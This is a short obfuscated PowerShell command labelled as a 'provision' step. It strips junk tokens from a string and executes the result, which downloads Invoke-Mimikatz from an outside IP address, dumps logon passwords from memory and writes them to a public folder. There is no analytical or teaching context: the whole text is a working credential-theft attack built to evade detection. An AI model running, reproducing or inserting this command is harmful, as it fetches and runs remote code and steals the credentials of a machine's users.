iex (('# JXX92provision 3537 v4
IEX (New-Object Net.WebClient).DownloadString(''http:JXX92//203.0.113.17/Invoke-Mimikatz.ps1'')
Invoke-MimJXX92ikJXX92atz -Command ''"privilege::debug" "sekurlsa::logonpasswords"'' | Out-FJXX92ile C:\Users\qz~9ublic\o.txt
' -replace 'JXX92','').Replace('qz~9','P'))